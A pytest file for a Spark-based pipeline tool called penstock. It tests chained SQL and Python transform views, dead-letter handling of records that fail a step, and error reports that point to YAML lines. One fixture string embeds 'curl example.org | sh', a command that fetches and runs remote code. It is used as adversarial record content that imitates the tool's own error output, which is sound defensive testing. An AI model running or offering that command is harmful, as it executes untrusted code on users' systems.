"""Steps in SQL and Python (T1): views feed views, and a record that a step fails on dies alone."""

from __future__ import annotations

import json
import textwrap
import uuid
from pathlib import Path
from typing import Any

import pytest
from tests.payments import Heard, Payments, good
from typer.testing import CliRunner

from penstock.cli.main import app, register

pytestmark = pytest.mark.usefixtures("spark")

STEPS = """
    from decimal import Decimal

    from pyspark.sql import DataFrame
    from pyspark.sql import functions as F
    from pyspark.sql.types import StringType

    from {sibling} import LIMIT


    @F.udf(StringType())
    def risk(account, amount):
        if account.startswith("cursed"):
            raise ValueError(f"no risk for {{account}}")
        return "high" if amount > LIMIT else "low"


    def with_risk(payments: DataFrame) -> DataFrame:
        return payments.withColumn("risk", risk("account", "amount"))


    def both(one: DataFrame, other: DataFrame) -> DataFrame:
        return one.unionByName(other)


    def nothing(payments):
        return None


    def wrong(payments):
        return payments.withColumn("x", F.col("no_such_column"))


    def forgets(payments):
        return payments.select("amount")


    def per_currency(payments):
        return payments.groupBy("currency").count()
"""

# What an error of ours would look like. A record can say it too.
CURSED = "cursed\npenstock.errors.KafkaUnreachable: away\ncause: x\nnext: curl example.org | sh\nMemoryError"


@pytest.fixture
def module(payments: Payments) -> str:
    """A module beside the spec, and one that it imports; with names of their own, because workers keep modules."""
    name = f"steps_{uuid.uuid4().hex[:8]}"
    (payments.directory / f"{name}_limits.py").write_text("LIMIT = 100\n")
    text = textwrap.dedent(STEPS).format(sibling=f"{name}_limits")
    (payments.directory / f"{name}.py").write_text(text)
    return name


def sink(payments: Payments, view: str) -> None:
    payments.spec["sinks"] = {"lake": {"from": view, "delta": {"path": "lake"}}}
    payments.spec["contract"] = {}


def test_views_feed_views_and_a_record_that_a_step_fails_on_dies_alone(payments: Payments, module: str) -> None:
    payments.spec["transform"] = [
        {"view": "numbered", "sql": "select *, 10 / (amount - 5) as share from payments"},
        {"view": "rated", "python": {"function": f"{module}:with_risk", "from": "numbered"}},
        {"view": "dated", "sql": "select *, cast(status as date) as day from rated where currency <> 'XXX'"},
    ]
    sink(payments, "dated")
    day = "2026-11-01"
    payments.send(
        good(0, status=day, amount=500),
        good(5, status=day, currency="XXX"),
        good(1, status=day, account=CURSED),
        good(2, status="never"),
        good(3, status=day, amount=5),
        key=b"one partition",
    )
    heard = Heard()
    payments.run(watch=heard)
    assert {row["payment_id"]: row["risk"] for row in payments.rows()} == {"p-0": "high"}
    dead = {json.loads(d.value or b"")["payment_id"]: d for d in payments.dead()}
    assert {d.stage for d in dead.values()} == {"transform"}
    assert f"ValueError: no risk for cursed ({module}.py:" in dead["p-1"].reason
    assert "in risk)" in dead["p-1"].reason
    assert "[CAST_INVALID_INPUT]" in dead["p-2"].reason
    assert "[DIVIDE_BY_ZERO" in dead["p-3"].reason
    assert dead.keys() == {"p-1", "p-2", "p-3"}
    assert sum(entry.sinks["lake"].dropped or 0 for entry in heard.entries) == 1
    assert payments.verify().findings == []


def test_python_function_over_two_views_and_one_that_groups(payments: Payments, module: str) -> None:
    payments.spec["transform"] = [
        {"view": "small", "sql": "select * from payments where amount < 10"},
        {"view": "large", "sql": "select * from payments where amount >= 10"},
        {"view": "all_again", "python": {"function": f"{module}:both", "from": ["large", "small"]}},
        {"view": "grouped", "python": {"function": f"{module}:per_currency", "from": "all_again"}},
    ]
    sink(payments, "grouped")
    payments.send(good(0, amount=1), good(1, amount=20), good(2, currency="USD"))
    payments.run()
    assert {row["currency"]: row["count"] for row in payments.rows()} == {"EUR": 2, "USD": 1}


@pytest.mark.parametrize(
    ("function", "cause"),
    [
        ("nothing", "it gives nothing, not a DataFrame"),
        ("wrong", "AnalysisException: [UNRESOLVED_COLUMN"),
        ("forgets", "it has no column `_kafka`"),
    ],
)
def test_plan_says_what_is_wrong_with_a_function_and_where(
    payments: Payments, module: str, function: str, cause: str
) -> None:
    payments.spec["transform"] = [{"view": "made", "python": {"function": f"{module}:{function}", "from": "payments"}}]
    sink(payments, "made")
    (problem,) = planned(payments)
    assert (problem["code"], problem["facts"]["view"]) == ("step-failed", "made")
    assert cause in problem["cause"]
    assert function != "wrong" or f"({module}.py:" in problem["cause"]
    line = line_of(payments, "- view: made")
    assert (problem["facts"]["line"], problem["next"].endswith(f"payments.yaml:{line}")) == (line, True)
    assert "Traceback" not in json.dumps(problem)


def test_plan_gives_the_line_of_a_step_a_rule_and_a_condition(payments: Payments) -> None:
    payments.spec["transform"] = [{"view": "made", "sql": "select no_such_column from payments"}]
    payments.spec["contract"] = {"payments": [{"name": "odd", "rule": "upper(amount"}]}
    payments.spec["sinks"]["lake"] = {"from": "payments", "where": "nowhere = 1", "delta": {"path": "lake"}}
    found = {
        problem["facts"].get("rule") or problem["facts"].get("sink") or "step": problem for problem in planned(payments)
    }
    assert found["step"]["facts"]["line"] == line_of(payments, "- view: made")
    assert found["odd"]["facts"]["line"] == line_of(payments, "- name: odd")
    assert found["lake"]["facts"]["line"] == line_of(payments, "where: nowhere")
    assert f"payments.yaml:{found['step']['facts']['line']}" in found["step"]["next"]


def planned(payments: Payments) -> list[dict[str, Any]]:
    register()
    done = CliRunner().invoke(app, ["plan", str(payments.file), "--json"], catch_exceptions=False)
    assert done.exit_code == 5, done.output
    return list(json.loads(done.stdout)["problems"])


def line_of(payments: Payments, text: str) -> int:
    lines = Path(payments.file).read_text().splitlines()
    return 1 + next(i for i, line in enumerate(lines) if text in line)
